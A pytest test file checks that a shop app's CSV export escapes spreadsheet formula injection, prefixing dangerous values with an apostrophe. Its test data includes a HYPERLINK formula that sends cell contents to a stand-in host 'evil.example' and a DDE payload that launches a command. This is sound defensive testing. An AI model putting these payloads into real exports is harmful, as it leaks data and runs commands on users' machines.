"""CSV exports a spreadsheet opens as data (services/csv_export.py): a buyer name or product name
that a spreadsheet would run as a formula (OWASP "CSV Injection") comes back as text."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from channelmanager_gui.models.db import open_database
from channelmanager_gui.services import ops
from channelmanager_gui.services.csv_export import spreadsheet_safe
from tests.models.listing_seed import add_listing
from tests.models.order_seed import Line, add_order, add_store

TYPED = [
    '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    "+1 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    'Ada Lovelace, "Countess"',
    "O'Brien = ok",
]


def read_back(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_orders_and_listings_export_formulas_as_text(tmp_path: Path) -> None:
    db = open_database(tmp_path / "shop.sqlite3")
    store = add_store(db)
    for number, name in enumerate(TYPED):
        add_order(db, store, f"PO-{number}", customer=name, lines=[Line("SKU-1", 1, name=name)])
        add_listing(db, store, number, name=name)
    orders, listings = tmp_path / "orders.csv", tmp_path / "listings.csv"
    with open(orders, "w", encoding="utf-8", newline="") as out:
        assert ops.export_orders(db, "csv", out) == len(TYPED)
    with open(listings, "w", encoding="utf-8", newline="") as out:
        assert ops.export_listings(db, "csv", out) == len(TYPED)
    db.dispose()

    expected = ["'" + name for name in TYPED[:6]] + TYPED[6:]
    assert [row["customer_name"] for row in read_back(orders)] == expected
    assert [row["name"] for row in read_back(listings)] == expected
    assert {row["total"] for row in read_back(orders)} == {"10.00"}  # numbers stay numbers


@pytest.mark.parametrize(
    "value, shown",
    [("=1+1", "'=1+1"), ("-", "'-"), ("a=1", "a=1"), ("", ""), (None, ""), (-5, -5), (0, 0)],
)
def test_spreadsheet_safe(value: object, shown: object) -> None:
    assert spreadsheet_safe(value) == shown
